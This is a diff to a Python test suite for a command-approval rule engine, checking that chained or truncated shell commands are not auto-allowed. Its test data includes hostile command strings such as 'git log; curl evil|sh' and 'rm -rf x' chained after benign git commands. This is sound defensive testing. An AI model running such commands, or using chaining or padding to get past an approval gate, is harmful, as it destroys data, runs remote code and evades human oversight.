@@ -8,6 +8,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from hub.domain.approval import (
+    MAX_SUBJECT,
     Action,
     Approval,
     By,
@@ -144,6 +145,7 @@ def test_a_start_or_a_handoff_is_held_up_by_a_rule_alone():
     [
         ("git status", "allow"),
         ("git status && git log", "allow"),
+        ("git commit -m 'it is done'", "allow"),
         ("git log 2>&1 | git hash-object --stdin", "allow"),
         ("git status && rm -rf x", "ask"),
         ("git log; curl evil|sh", "ask"),
@@ -174,6 +176,18 @@ def test_a_command_behind_any_other_is_never_allowed_with_it(front, joint):
     """Whatever stands before it, a part that no allowing rule matches keeps the whole from being allowed."""
     rules = [Rule(command="a*", decision="allow"), Rule()]
     assert decision(rules, shell(f"{front}{joint}rm x")) == "ask"
+
+
+def test_what_was_cut_is_not_allowed_unseen():
+    """A command may hide behind more text than is kept of it."""
+    long = shell("true " + "x" * MAX_SUBJECT)
+    assert decision([Rule(command="rm *", decision="deny")], long) == "ask"
+    assert decision([Rule(decision="allow")], long) == "ask"
+    assert decision([Rule(decision="deny")], long) == "deny"
+    event = Event(EventType.WAITING, "", {"approvalId": "r", "command": long.subject})
+    found = asked(event, **OF)
+    assert found is not None
+    assert decision([Rule(decision="allow")], found) == "ask"
 
 
 def test_a_path_is_judged_whole():
